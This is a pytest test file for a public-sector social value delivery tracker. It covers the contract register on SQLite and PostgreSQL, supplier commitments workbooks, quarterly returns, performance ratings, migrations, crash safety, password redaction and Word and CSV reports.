"""Delivery tracking: the register on SQLite and PostgreSQL, workbooks, ratings, reports."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import threading
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from svauthor.cli import main
from svauthor.domain.engine import assess
from svauthor.domain.knowledge import KnowledgeBase
from svauthor.domain.results import Assessment
from svauthor.domain.specfile import load_spec
from svauthor.errors import InputError
from svauthor.tracking import db as trackdb
from svauthor.tracking.quarters import Quarter, contract_quarters, contract_year
from svauthor.tracking.register import export_register
from svauthor.tracking.rules import load_tracking_rules, rate
from svauthor.tracking.workbook import tender_commitments_workbook, total_heading
from svauthor.ukformat import fmt_date
from tests.tracking_support import BACKENDS, backend_url, fill_commitments, fill_return

if TYPE_CHECKING:
    from sqlalchemy.engine import URL, Engine

ROOT = Path(__file__).resolve().parent.parent
SPEC = ROOT / "examples" / "icb-community-mental-health.yaml"  # 36 months from 1 October 2027
REF = "community-mental-health-recovery-service"
LATER = "2028-05-15"


@pytest.fixture(params=BACKENDS)
def db(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[str]:
    yield from backend_url(request.param, tmp_path)


@pytest.fixture(scope="module")
def assessment(kb: KnowledgeBase) -> Assessment:
    return assess(load_spec(str(SPEC), kb), kb, today=date(2026, 11, 27))


@pytest.fixture(scope="module")
def commitments_blank(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """The workbook `svauthor build` writes into the pack: the journey starts from a built pack."""
    out = tmp_path_factory.mktemp("pack")
    assert main(["build", str(SPEC), "-o", str(out), "--today", "2026-11-27"]) == 0
    return (out / f"{REF}-commitments.xlsx").read_bytes()


def test_build_and_engine_write_the_same_commitments_workbook(commitments_blank: bytes,
                                                             assessment: Assessment) -> None:
    def cells(data: bytes) -> list[list[object]]:
        wb = load_workbook(io.BytesIO(data))
        return [[c.value for c in row] for ws in wb.worksheets for row in ws.iter_rows()]

    assert cells(commitments_blank) == cells(tender_commitments_workbook(
        assessment, load_tracking_rules()))


def track(capsys: pytest.CaptureFixture[str], *argv: str, today: str = LATER) -> tuple[int, str, str]:
    code = main(["track", *argv, "--today", today])
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    return code, out, err


def added(capsys: pytest.CaptureFixture[str], db: str, tmp_path: Path, blank: bytes) -> None:
    commitments = fill_commitments(blank, tmp_path / "bid.xlsx")
    assert track(capsys, "init", "--db", db)[0] == 0
    code, out, err = track(capsys, "add", str(SPEC), "--supplier", "Mersey Minds CIC",
                           "--award-date", "2027-07-01", "--commitments", str(commitments),
                           "--db", db)
    assert code == 0, err
    assert f"added contract {REF}" in out and "1 October 2027 to 30 September 2030" in out


def returned(capsys: pytest.CaptureFixture[str], db: str, tmp_path: Path, quarter: str,
             **fill: Any) -> Path:
    blank = tmp_path / f"{quarter}-blank.xlsx"
    if not blank.exists():
        code, _, err = track(capsys, "template", REF, "--quarter", quarter, "-o", str(blank),
                             "--db", db)
        assert code == 0, err
    tag = "-".join(f"{k}{v}" for k, v in sorted(fill.items()) if k != "actuals")
    return fill_return(blank, tmp_path / f"{quarter}-{tag or 'done'}.xlsx", **fill)


# -- rules and calendar, no database -------------------------------------------------------------

@pytest.mark.parametrize(("actual", "target", "expected"), [
    (100, 100, "good"), (120, 100, "good"), (99.99, 100, "approaching_target"),
    (90, 100, "approaching_target"), (89.9, 100, "requires_improvement"),
    (70, 100, "requires_improvement"), (69.9, 100, "inadequate"), (0, 100, "inadequate"),
    (None, 100, "other"), (5, None, "other"), (0, 0, "good"),
])
def test_ratings_follow_the_performance_notice_scale(actual: float | None, target: float | None,
                                                     expected: str) -> None:
    assert rate(load_tracking_rules(), actual, target).id == expected


def test_rating_rules_cite_the_regulation_and_say_they_are_local_defaults() -> None:
    rules = load_tracking_rules()
    assert rules.ratings.thresholds_are == "default_for_local_policy"
    assert "regulation 39" in rules.ratings.source
    assert [lv.label for lv in rules.ratings.scale] == [
        "Good", "Approaching target", "Requires improvement", "Inadequate"]
    assert "Good at 100%" in rules.note() and "{" not in rules.note()


def test_bad_tracking_rules_are_reported_with_file_and_line(tmp_path: Path) -> None:
    bad = tmp_path / "tracking.yaml"
    text = (ROOT / "rules" / "tracking" / "tracking.yaml").read_text(encoding="utf-8")
    bad.write_text(text.replace("min_pct_of_target: 90", "min_pct_of_target: 120"),
                   encoding="utf-8")
    with pytest.raises(InputError) as err:
        load_tracking_rules(bad)
    assert "strictly falling" in str(err.value) and str(bad) in str(err.value)


def test_quarters_and_contract_years() -> None:
    assert str(Quarter.parse("2027q1")) == "2027-Q1"
    assert Quarter.parse("2027-Q4").end == date(2027, 12, 31)
    with pytest.raises(ValueError, match="YYYY-Qn"):
        Quarter.parse("2027-Q5")
    qs = contract_quarters(date(2027, 10, 1), date(2030, 9, 30))
    assert len(qs) == 12 and str(qs[0]) == "2027-Q4" and str(qs[-1]) == "2030-Q3"
    assert [contract_year(date(2027, 10, 1), q) for q in qs[:5]] == [1, 1, 1, 1, 2]
    assert contract_year(date(2027, 11, 15), Quarter(2028, 4)) == 1


# -- the bidders' commitments workbook -----------------------------------------------------------

def test_commitments_workbook_is_locked_validated_and_explained(commitments_blank: bytes,
                                                                assessment: Assessment) -> None:
    wb = load_workbook(io.BytesIO(commitments_blank))
    ws = wb["Commitments"]
    header = [c.value for c in ws[1]]
    assert header[:5] == ["Measure ref", "What it counts", "Unit", "Partner VCFSE", "Baseline"]
    assert header[5:8] == ["Year 1", "Year 2", "Year 3"]
    assert ws.protection.sheet and wb["Instructions"].protection.sheet
    refs = [r[0].value for r in ws.iter_rows(min_row=2) if r[0].value]
    asked = [m for m in assessment.measures if m.status == "recommended"]
    assert refs == [m.ref for m in asked]  # the same measures as the questions document
    partner = {r[0].value for r in ws.iter_rows(min_row=2) if r[3].value == "Yes"}
    assert partner == {m.ref for m in asked if m.partner_vcfse} and "NT14" in partner
    validated = {f"{get_column_letter(col)}{row}" for dv in ws.data_validations.dataValidation
                 for rng in dv.sqref.ranges for row, col in rng.cells}
    row2 = ws[2]
    for col in range(5, 9):
        assert row2[col - 1].protection.locked is False and row2[col - 1].coordinate in validated
    assert row2[0].protection.locked is not False  # the measure reference is locked
    # posts and percentages are levels: the worked-out column says it averages them
    heading = "Total over the contract (% and FTE: the average)"
    assert heading == total_heading(load_tracking_rules().profile.level_units)
    total = row2[header.index(heading)].value
    assert str(total).startswith("=") and row2[header.index(heading)].protection.locked
    text = " ".join(str(c.value) for c in wb["Instructions"]["A"] if c.value)
    assert "svauthor" not in text.lower() and "seed" not in text.lower()


def test_bad_commitments_workbook_lists_every_problem_by_sheet_row_and_column(
        capsys: pytest.CaptureFixture[str], tmp_path: Path, commitments_blank: bytes) -> None:
    db = str(tmp_path / "r.sqlite")
    path = fill_commitments(commitments_blank, tmp_path / "bid.xlsx")
    wb = load_workbook(path)
    ws = wb["Commitments"]
    ws["F2"] = "lots"
    ws["G3"] = -4
    ws["J4"] = None  # no delivery method
    wb.save(path)
    track(capsys, "init", "--db", db)
    code, _, err = track(capsys, "add", str(SPEC), "--supplier", "X", "--award-date",
                         "2027-07-01", "--commitments", str(path), "--db", db)
    assert code == 2
    assert "sheet `Commitments`, row 2, column F (Year 1): `lots` is not a number" in err
    assert "row 3, column G (Year 2): cannot be negative" in err
    assert "row 4, column J (How it will be delivered and evidenced)" in err
    assert track(capsys, "status", "--db", db)[1].startswith("The register has no contracts")


def test_not_a_workbook(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    db = str(tmp_path / "r.sqlite")
    junk = tmp_path / "junk.xlsx"
    junk.write_bytes(b"not a zip")
    track(capsys, "init", "--db", db)
    code, _, err = track(capsys, "import", str(junk), "--db", db)
    assert code == 2 and "is not an Excel .xlsx workbook" in err


# -- the journey, on both databases --------------------------------------------------------------

def test_journey_add_return_correct_status_report(capsys: pytest.CaptureFixture[str], db: str,
                                                  tmp_path: Path, commitments_blank: bytes) -> None:
    added(capsys, db, tmp_path, commitments_blank)
    q4 = returned(capsys, db, tmp_path, "Y1Q1", factor=0.95)
    code, out, err = track(capsys, "import", str(q4), "--db", db)
    assert code == 0 and "imported" in out, err
    code, out, _ = track(capsys, "import", str(q4), "--db", db)
    assert "already imported, nothing changed" in out
    fixed = returned(capsys, db, tmp_path, "Y1Q1", factor=1.1)
    code, out, _ = track(capsys, "import", str(fixed), "--db", db)
    assert "corrected (revision 2" in out

    code, out, _ = track(capsys, "status", "--json", "--db", db)
    (st,) = json.loads(out)["contracts"]
    assert st["returns_received"] == ["Y1Q1"]
    # 10 working days after 31 March 2028, skipping Good Friday and Easter Monday
    assert st["returns_overdue"] == [{"quarter": "Y1Q2", "due": "2028-04-18"}]
    assert st["overall_rating"] == "good"
    nt14 = next(c for c in st["commitments"] if c["ref"] == "NT14")
    assert nt14["target"] == 10 and nt14["actual"] == 11  # 40 a year over four quarters
    code, out, _ = track(capsys, "audit", REF, "--json", "--db", db)
    actions = [e["action"] for e in json.loads(out)]
    assert actions == ["add contract", "import return", "correct return"]
    assert json.loads(out)[2]["detail"]["replaced"]["NT14"] == 9.5  # both versions are kept

    q1 = returned(capsys, db, tmp_path, "Y1Q2", factor=0.8, story=False)
    assert track(capsys, "import", str(q1), "--db", db)[0] == 0
    code, out, _ = track(capsys, "status", "--db", db)
    assert "Y1Q2 rating: Requires improvement" in out and "OVERDUE" not in out
    assert "1 contract; 0 overdue returns" in out  # never "contract(s)"

    out_dir = tmp_path / "reports"
    code, out, err = track(capsys, "report", "--quarter", "2028-Q1", "-o", str(out_dir),
                           "--db", db)
    assert code == 0, err
    names = sorted(p.name for p in out_dir.iterdir())
    assert f"contract-{REF}-2028-Q1.docx" in names and "rollup-2028-Q1.docx" in names
    measures = (out_dir / "rollup-2028-Q1-measures.csv").read_text(encoding="utf-8")
    row = next(line for line in measures.splitlines() if line.startswith("NT14,"))
    assert ",10.0,8.0,80.0," in row and row.endswith(",11.0,2.0") is False  # no Q1 a year ago
    report = _docx_text(out_dir / f"contract-{REF}-2028-Q1.docx")
    assert "Requires improvement" in report and "still to deliver by 30 September 2028" in report
    assert "svauthor" not in report.lower() and "tracking.ratings" not in report
    import re

    assert not re.search(r"\d £", report)  # money reads £2,400, never 2,400 £
    assert not re.search(r"£[\d,]+\.\d", report)  # whole pounds in sentences too
    # The received date is the session's today (`--today`), not the wall clock (FINDINGS R37).
    assert f"Return received on {fmt_date(date.fromisoformat(LATER))}." in report
    for name in (f"contract-{REF}-2028-Q1.docx", "rollup-2028-Q1.docx"):
        assert_tables_keep_words_whole(out_dir / name)
    import docx

    props = docx.Document(str(out_dir / f"contract-{REF}-2028-Q1.docx")).core_properties
    assert props.title.startswith("Social Value delivery report: ") and "svauthor" not in (
        f"{props.title} {props.subject} {props.author} {props.comments}".lower())
    places = (out_dir / "rollup-2028-Q1-places.csv").read_text(encoding="utf-8")
    assert "place,place_name," in places
    with zipfile.ZipFile(out_dir / f"contract-{REF}-2028-Q1.docx") as z:
        body = z.read("word/document.xml").decode()
        assert body.count('descr="Bar chart') == 1 and 'descr="Line chart' in body
    code, _, err = track(capsys, "report", "--quarter", "2028-Q1", "-o", str(out_dir), "--db", db)
    assert code == 2 and "already exists" in err


def assert_tables_keep_words_whole(path: Path) -> None:
    """A report is landscape and no table column is narrower than its longest word (the pack's
    rule), so no heading breaks mid-word ("Measur|e", "improvemen|t")."""
    import docx
    from docx.enum.section import WD_ORIENT
    from docx.oxml.ns import qn

    d = docx.Document(str(path))
    assert all(s.orientation == WD_ORIENT.LANDSCAPE for s in d.sections)
    for table in d.tables:
        widths = [int(g.get(qn("w:w"))) for g in table._tbl.tblGrid.iter(qn("w:gridCol"))]
        for i, width in enumerate(widths):
            longest = max((len(w) for row in table.rows for w in row.cells[i].text.split()),
                          default=0)
            if longest < 25:
                assert width >= 118 * longest + 200, (path.name, table.rows[0].cells[i].text)


def _docx_text(path: Path) -> str:
    import docx

    d = docx.Document(str(path))
    cells = [c.text for t in d.tables for r in t.rows for c in r.cells]
    return "\n".join([p.text for p in d.paragraphs] + cells)


def test_bad_return_changes_nothing_and_says_where(capsys: pytest.CaptureFixture[str], db: str,
                                                   tmp_path: Path, commitments_blank: bytes) -> None:
    added(capsys, db, tmp_path, commitments_blank)
    good = returned(capsys, db, tmp_path, "Y1Q1")
    wb = load_workbook(good)
    ws = wb["Return"]
    ws["E2"] = "twelve"
    ws["E3"] = -3
    ws["F4"] = None  # a figure with no evidence
    wb["Case studies"]["A3"] = "ZZ9"
    bad = tmp_path / "bad.xlsx"
    wb.save(bad)
    before = _export(db)
    code, _, err = track(capsys, "import", str(bad), "--db", db)
    assert code == 2
    assert "sheet `Return`, row 2, column E (Actual): `twelve` is not a number" in err
    assert "row 3, column E (Actual): cannot be negative" in err
    assert "row 4, column F (Evidence): give a reference to the evidence" in err
    assert "sheet `Case studies`, row 3, column A (Measure ref)" in err
    assert _export(db) == before


def _export(db: str) -> dict[str, Any]:
    reg = trackdb.open_register(db)
    try:
        return export_register(reg)
    finally:
        reg.close()


def test_export_and_load_round_trip_exactly(capsys: pytest.CaptureFixture[str], db: str,
                                            tmp_path: Path, commitments_blank: bytes) -> None:
    added(capsys, db, tmp_path, commitments_blank)
    track(capsys, "import", str(returned(capsys, db, tmp_path, "Y1Q1", factor=0.5)), "--db", db)
    track(capsys, "import", str(returned(capsys, db, tmp_path, "Y1Q1", factor=0.7)), "--db", db)
    first = tmp_path / "export.json"
    assert track(capsys, "export", "-o", str(first), "--db", db)[0] == 0
    copy = str(tmp_path / "copy.sqlite")
    code, out, err = track(capsys, "load", str(first), "--db", copy)
    assert code == 0 and "loaded" in out, err
    second = tmp_path / "export2.json"
    track(capsys, "export", "-o", str(second), "--db", copy)
    assert first.read_text(encoding="utf-8") == second.read_text(encoding="utf-8")
    assert track(capsys, "load", str(first), "--db", copy)[2].count("not empty") == 1
    # a changed export is checked as add and import would check it, and loads nothing
    data = json.loads(first.read_text(encoding="utf-8"))
    t = data["tables"]
    t["return_lines"][1]["actual"] = "abc"
    bad = tmp_path / "bad-export.json"
    bad.write_text(json.dumps(data), encoding="utf-8")
    code, _, err = track(capsys, "load", str(bad), "--db", str(tmp_path / "fresh.sqlite"))
    assert code == 2 and "tables.return_lines[1].actual: `abc` is not a number" in err, err
    t["return_lines"][1]["actual"] = 3
    t["return_lines"][0]["actual"] = -5
    t["targets"][0]["target"] = 1e400
    t["contracts"][0]["end_date"] = "2020-01-01"
    t["commitments"][0]["unit"] = "parsecs"
    t["returns"][0]["quarter"] = "Y9Q9"
    t["returns"][0]["superseded"] = False
    bad.write_text(json.dumps(data).replace("Infinity", "1e400"), encoding="utf-8")
    code, _, err = track(capsys, "load", str(bad), "--db", str(tmp_path / "fresh.sqlite"))
    assert code == 2
    for where, says in [("tables.return_lines[0].actual", "cannot be negative"),
                        ("tables.targets[0].target", "finite"),
                        ("tables.commitments[0].unit", "parsecs"),
                        ("tables.contracts[0].end_date", "before the start date"),
                        ("tables.returns[0].quarter", "not a quarter of its contract")]:
        assert f"{where}: " in err and says in err, err
    assert "internal problem" not in err


def _old_register(url: URL, revision: str, *, end_date: str) -> Engine:
    """A register migrated only to `revision`, holding one council and one contract, as an
    older svauthor left it (written with SQL, since today's models no longer fit)."""
    from sqlalchemy import text

    engine = trackdb.make_engine(url)
    trackdb.upgrade(engine, revision)
    with engine.begin() as conn:
        conn.execute(text("INSERT INTO organisations (id, name) VALUES (1, 'Wirral Council')"))
        conn.execute(text(
            "INSERT INTO contracts (id, reference, title, organisation_id, supplier, "
            "service_type, value_gbp, award_date, start_date, end_date, created_at) VALUES "
            "(1, 'W1', 'Befriending', 1, 'Age Well', 'community_support', 45000, '2027-04-01', "
            f"'2027-06-01', '{end_date}', '2027-04-01 09:00:00')"))
    return engine


def test_migrates_from_every_earlier_schema_revision(db: str, tmp_path: Path) -> None:
    url = trackdb.resolve_url(db)
    _old_register(url, "0001", end_date="2028-05-31").dispose()
    assert trackdb.current_revision(trackdb.make_engine(url)) == "0001"
    reg = trackdb.open_register(db)
    try:
        assert trackdb.current_revision(reg.engine) == trackdb.head_revision()
        data = export_register(reg)
        assert data["tables"]["contracts"][0]["reference"] == "W1"
        assert data["tables"]["case_studies"] == []
    finally:
        reg.close()


def test_schema_from_migrations_matches_the_models(db: str) -> None:
    from alembic.autogenerate import compare_metadata
    from alembic.migration import MigrationContext

    from svauthor.tracking.models import Base

    reg = trackdb.open_register(db, create=True)
    try:
        with reg.engine.connect() as conn:
            diff = compare_metadata(MigrationContext.configure(conn), Base.metadata)
        assert diff == []
    finally:
        reg.close()


def test_concurrent_imports_of_the_same_return_count_once(capsys: pytest.CaptureFixture[str],
                                                          db: str, tmp_path: Path,
                                                          commitments_blank: bytes) -> None:
    from svauthor.tracking.register import import_return

    added(capsys, db, tmp_path, commitments_blank)
    a = returned(capsys, db, tmp_path, "Y1Q1", factor=1.0)
    b = returned(capsys, db, tmp_path, "Y1Q1", factor=0.5)
    rules = load_tracking_rules()
    outcomes: list[str] = []
    errors: list[Exception] = []

    def worker(path: Path) -> None:
        reg = trackdb.open_register(db)
        try:
            outcomes.append(import_return(reg, path, rules, "tester").outcome)
        except Exception as exc:  # noqa: BLE001 - surfaced by the assert below
            errors.append(exc)
        finally:
            reg.close()

    threads = [threading.Thread(target=worker, args=(p,)) for p in (a, a, b, b)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors, errors
    data = _export(db)["tables"]
    returns = data["returns"]
    assert sorted(r["revision"] for r in returns) == list(range(1, len(returns) + 1))
    assert sum(not r["superseded"] for r in returns) == 1
    assert len(returns) == outcomes.count("new") + outcomes.count("corrected")
    assert len(returns) <= 4
    assert len(data["return_lines"]) == len(data["commitments"]) * len(returns)


_KILL_CHILD = """
import os, sys, time
from pathlib import Path
import svauthor.tracking.register as r
from svauthor.tracking.db import open_register
from svauthor.tracking.rules import load_tracking_rules
def stop(stage):
    # Written whole, then renamed: the parent never sees the marker before its text.
    part = Path(sys.argv[3] + ".part")
    part.write_text(stage)
    os.replace(part, sys.argv[3])
    time.sleep(60)
r._checkpoint = stop
reg = open_register(sys.argv[1])
r.import_return(reg, Path(sys.argv[2]), load_tracking_rules(), "crash test")
"""


def test_kill_during_import_leaves_the_register_as_it_was(capsys: pytest.CaptureFixture[str],
                                                           db: str, tmp_path: Path,
                                                           commitments_blank: bytes) -> None:
    import time

    added(capsys, db, tmp_path, commitments_blank)
    first = returned(capsys, db, tmp_path, "Y1Q1", factor=1.0)
    track(capsys, "import", str(first), "--db", db)
    before = _export(db)
    second = returned(capsys, db, tmp_path, "Y1Q1", factor=0.3)
    marker = tmp_path / "reached"
    child = subprocess.Popen([sys.executable, "-c", _KILL_CHILD, db, str(second), str(marker)],
                             cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)})
    try:
        deadline = time.monotonic() + 300  # a loaded machine can take long to start Python
        while not marker.exists():
            assert child.poll() is None, "the import process ended before the checkpoint"
            assert time.monotonic() < deadline
            time.sleep(0.05)
        child.kill()  # SIGKILL: no clean-up, no rollback by Python
        child.wait()
    finally:
        if child.poll() is None:
            child.kill()
    assert marker.read_text() == "return written"
    assert _export(db) == before
    assert "corrected (revision 2" in track(capsys, "import", str(second), "--db", db)[1]


# -- safety --------------------------------------------------------------------------------------

@pytest.mark.parametrize("url", [
    "postgresql://someone:s3cret-pw@127.0.0.1:9/none?connect_timeout=2",
    # libpq also reads a password from the query, as cloud consoles' connection strings give it
    "postgresql://someone@127.0.0.1:9/none?connect_timeout=2&password=s3cret-pw",
    "postgresql://someone:Other@127.0.0.1:9/none?sslpassword=s3cret-pw&connect_timeout=2",
])
def test_password_is_never_shown(capsys: pytest.CaptureFixture[str], url: str) -> None:
    code, out, err = track(capsys, "status", "--db", url)
    assert code == 2 and "s3cret-pw" not in out + err and "***" in err


def test_missing_register_says_to_init(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    code, _, err = track(capsys, "status", "--db", str(tmp_path / "none.sqlite"))
    assert code == 2 and "svauthor track init" in err
    assert not (tmp_path / "none.sqlite").exists()


def test_check_does_not_load_the_tracking_libraries() -> None:
    code = ("import sys; from svauthor.cli import main; main(['check', sys.argv[1]]); "
            "bad = [m for m in ('sqlalchemy', 'alembic', 'openpyxl', 'matplotlib', 'psycopg') "
            "if m in sys.modules]; print(bad)")
    out = subprocess.run([sys.executable, "-c", code, str(SPEC)], capture_output=True, text=True,
                         cwd=ROOT, check=False).stdout
    assert out.strip().splitlines()[-1] == "[]"


# -- the contract-management screen --------------------------------------------------------------

def test_app_shows_the_register_and_takes_a_return_by_hand(capsys: pytest.CaptureFixture[str],
                                                           tmp_path: Path,
                                                           commitments_blank: bytes) -> None:
    import asyncio

    from textual.widgets import DataTable, Input, Static

    from svauthor.tracking.app import ContractScreen, ReturnScreen, TrackApp

    db = str(tmp_path / "r.sqlite")
    added(capsys, db, tmp_path, commitments_blank)
    track(capsys, "import", str(returned(capsys, db, tmp_path, "Y1Q1", factor=0.8)), "--db", db)
    reg = trackdb.open_register(db)
    app = TrackApp(reg, load_tracking_rules(), date(2028, 5, 15))

    async def script() -> None:
        async with app.run_test(size=(120, 40)) as pilot:
            await pilot.pause()
            table = app.screen.query_one("#contracts", DataTable)
            row = [str(c) for c in table.get_row_at(0)]
            assert row[0] == REF and row[4] == "Requires improvement" and row[5] == "Y1Q2"
            await pilot.press("enter")
            await pilot.pause()
            assert isinstance(app.screen, ContractScreen)
            commitments = app.screen.query_one("#commitments", DataTable)
            assert commitments.row_count == len(_export(db)["tables"]["commitments"])
            await pilot.press("r")
            await pilot.pause()
            form = app.screen
            assert isinstance(form, ReturnScreen)
            assert form.query_one("#quarter", Input).value == "Y1Q2"
            form.query_one("#actual-0", Input).value = "lots"
            form.action_save()
            await pilot.pause()
            assert "not a number" in str(form.query_one("#error-0", Static).render())
            assert "Nothing saved" in str(form.query_one("#result", Static).render())
            for i in range(len(form.refs)):
                form.query_one(f"#actual-{i}", Input).value = "5"
                form.query_one(f"#evidence-{i}", Input).value = "[b]not markup[/b]"
            form.action_save()
            await pilot.pause()
            assert "Saved: " in str(form.query_one("#result", Static).render())

    try:
        asyncio.run(script())
    finally:
        reg.close()
    data = _export(db)["tables"]
    assert sorted(r["quarter"] for r in data["returns"]) == ["Y1Q1", "Y1Q2"]
    assert {ln["evidence"] for ln in data["return_lines"]} >= {"[b]not markup[/b]"}


def test_contracts_over_5_million_get_performance_notice_data(capsys: pytest.CaptureFixture[str],
                                                              tmp_path: Path,
                                                              kb: KnowledgeBase) -> None:
    spec = tmp_path / "big.yaml"
    spec.write_text(SPEC.read_text(encoding="utf-8").replace("value_gbp: 2000000",
                                                            "value_gbp: 6000000"), encoding="utf-8")
    a = assess(load_spec(str(spec), kb), kb, today=date(2026, 11, 27))
    bid = fill_commitments(tender_commitments_workbook(a, load_tracking_rules()), tmp_path / "b.xlsx")
    db = str(tmp_path / "r.sqlite")
    track(capsys, "init", "--db", db)
    code, _, err = track(capsys, "add", str(spec), "--supplier", "Big Co", "--award-date",
                         "2027-07-01", "--commitments", str(bid), "--reference", "BIG-1", "--db", db)
    assert code == 0, err
    blank = tmp_path / "t.xlsx"
    track(capsys, "template", "BIG-1", "--quarter", "Y1Q1", "-o", str(blank), "--db", db)
    track(capsys, "import", str(fill_return(blank, tmp_path / "f.xlsx", factor=0.95)), "--db", db)
    assert "contract performance notice is due" in track(capsys, "status", "--db", db)[1]
    out = tmp_path / "rep"
    assert track(capsys, "report", "--quarter", "2027-Q4", "-o", str(out), "--db", db)[0] == 0
    rows = json.loads((out / "performance-notice-data-2027-Q4.json").read_text(encoding="utf-8"))
    assert rows and {r["rating"] for r in rows} == {"Approaching target"}
    assert rows[0]["period_start"] == "2027-10-01" and rows[0]["period_end"] == "2027-12-31"
    assert (out / "performance-notice-data-2027-Q4.csv").read_text(encoding="utf-8").startswith(
        "contract,title,organisation,supplier,kpi,")


def test_a_draft_pack_marks_its_commitments_workbook_draft(kb: KnowledgeBase, tmp_path: Path,
                                                           assessment: Assessment) -> None:
    from svauthor.docs import build_pack

    def marks(path: Path) -> list[str]:
        wb = load_workbook(path)
        found = [str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row
                 if "DRAFT" in str(c.value or "")]
        found += [str(ws.oddHeader.center.text) for ws in wb.worksheets
                  if ws.oddHeader is not None and "DRAFT" in str(ws.oddHeader.center.text)]
        return found

    draft = build_pack(assessment, tmp_path / "d", kb=kb, draft=True)
    final = build_pack(assessment, tmp_path / "f", kb=kb)
    (d,) = [p for p in draft if p.suffix == ".xlsx"]
    (f,) = [p for p in final if p.suffix == ".xlsx"]
    assert "DRAFT: not for publication" in marks(d) and len(marks(d)) >= 3
    assert marks(f) == []


def test_profile_levels_and_partial_quarters() -> None:
    from svauthor.tracking.register import Profile

    # a register from before contract quarters: 12 months from 1 June 2027 by calendar quarter,
    # June (30 days), three full quarters, then April and May 2028
    p = Profile.of(date(2027, 6, 1), date(2028, 5, 31), "calendar")
    assert [q.key for q in p.periods] == ["2027-Q2", "2027-Q3", "2027-Q4", "2028-Q1", "2028-Q2"]
    shares = [p.target({1: 400.0}, q, False) or 0.0 for q in p.periods]
    assert [round(x, 1) for x in shares] == [33.0, 100.0, 100.0, 100.0, 67.0]
    assert round(sum(shares), 6) == 400  # June is a third of its quarter; the year adds up
    assert p.target({1: 3.0}, p.periods[0], True) == 3.0  # a level is not split
    assert "fte" in load_tracking_rules().profile.level_units
    # the same contract by contract quarter: four full quarters from the start date
    c = Profile.of(date(2027, 6, 1), date(2028, 5, 31))
    assert [(q.key, q.start, q.end) for q in c.periods] == [
        ("Y1Q1", date(2027, 6, 1), date(2027, 8, 31)),
        ("Y1Q2", date(2027, 9, 1), date(2027, 11, 30)),
        ("Y1Q3", date(2027, 12, 1), date(2028, 2, 29)),  # 2028 is a leap year
        ("Y1Q4", date(2028, 3, 1), date(2028, 5, 31))]
    assert [c.target({1: 400.0}, q, False) for q in c.periods] == [100.0] * 4


def test_future_quarters_and_absurd_figures_are_refused(capsys: pytest.CaptureFixture[str],
                                                         tmp_path: Path,
                                                         commitments_blank: bytes) -> None:
    db = str(tmp_path / "r.sqlite")
    added(capsys, db, tmp_path, commitments_blank)
    early = returned(capsys, db, tmp_path, "Y1Q3")
    code, _, err = track(capsys, "import", str(early), "--db", db)
    assert code == 2 and "Y1Q3 has not ended yet (it ends on 30 June 2028)" in err
    huge = returned(capsys, db, tmp_path, "Y1Q1", actuals={"NT14": 1e300})
    code, _, err = track(capsys, "import", str(huge), "--db", db)
    assert code == 2 and "too large to be right" in err
    assert _export(db)["tables"]["returns"] == []


# -- contract quarters and the financial-year roll-up -------------------------------------------

def test_a_mid_quarter_start_reports_by_contract_quarter_and_rolls_up_by_financial_year(
        capsys: pytest.CaptureFixture[str], db: str, tmp_path: Path,
        commitments_blank: bytes) -> None:
    """A contract starting 15 February 2028: Y1Q1 runs to 14 May. Each return counts once, in
    the financial year its quarter ends in; a quarter not yet returned is overdue, not zero."""
    track(capsys, "init", "--db", db)
    bid = fill_commitments(commitments_blank, tmp_path / "bid.xlsx")
    code, out, err = track(capsys, "add", str(SPEC), "--supplier", "Mersey Minds CIC",
                           "--award-date", "2027-07-01", "--start", "2028-02-15",
                           "--commitments", str(bid), "--db", db, today="2029-06-01")
    assert code == 0 and "15 February 2028 to 14 February 2031" in out, err
    for key, factor in (("Y1Q1", 1.0), ("Y1Q2", 0.5), ("Y1Q4", 1.5)):  # Y1Q3 never sent
        blank = tmp_path / f"{key}.xlsx"
        code, _, err = track(capsys, "template", REF, "--quarter", key, "-o", str(blank),
                             "--db", db, today="2029-06-01")
        assert code == 0, err
        code, out, err = track(capsys, "import", str(fill_return(
            blank, tmp_path / f"{key}-done.xlsx", factor=factor)), "--db", db, today="2029-06-01")
        assert f"{REF} {key}: imported" in out, err
    st = json.loads(track(capsys, "status", "--json", "--db", db, today="2029-06-01")[1])
    (c,) = st["contracts"]
    assert c["returns_received"] == ["Y1Q1", "Y1Q2", "Y1Q4"]
    # Y1Q3 ended on 14 November 2028: 10 working days later is 28 November
    assert {"quarter": "Y1Q3", "due": "2028-11-28"} in c["returns_overdue"]

    out_dir = tmp_path / "fy"
    code, _, err = track(capsys, "report", "--quarter", "2028-29", "-o", str(out_dir),
                         "--db", db, today="2029-06-01")
    assert code == 0, err
    rows = _csv_rows(out_dir / "rollup-2028-29-measures.csv")
    assert "same_year_last_year" in rows[0]  # the column names the period compared
    nt14 = next(r for r in rows if r["measure_ref"] == "NT14")
    # the year's target is 40: all four quarters end in 2028-29; actuals 10 + 5 + 15 reported
    # against the 30 targeted in the three quarters that were returned
    assert float(nt14["target_all_commitments"]) == 40.0
    assert float(nt14["target"]) == 30.0 and float(nt14["actual"]) == 30.0
    ratings = (out_dir / "rollup-2028-29-ratings.csv").read_text(encoding="utf-8")
    # rated on the quarters reported: 30 of their 30 target is met
    assert "good,Good," in ratings
    overdue = (out_dir / "rollup-2028-29-overdue.csv").read_text(encoding="utf-8")
    assert f"{REF}," in overdue and ",Y1Q3,2028-11-28" in overdue
    assert (out_dir / f"contract-{REF}-2028-29.docx").exists()  # its last quarter, Y1Q4

    # a financial quarter holds just the one contract quarter that ends in it
    fq = tmp_path / "fq"
    assert track(capsys, "report", "--quarter", "2028-29-Q1", "-o", str(fq), "--db", db,
                 today="2029-06-01")[0] == 0
    nt14 = next(r for r in _csv_rows(fq / "rollup-2028-29-Q1-measures.csv")
                if r["measure_ref"] == "NT14")
    assert float(nt14["target"]) == 10.0 and float(nt14["actual"]) == 10.0
    # the year before has no quarter of this contract ending in it: no contract, no report
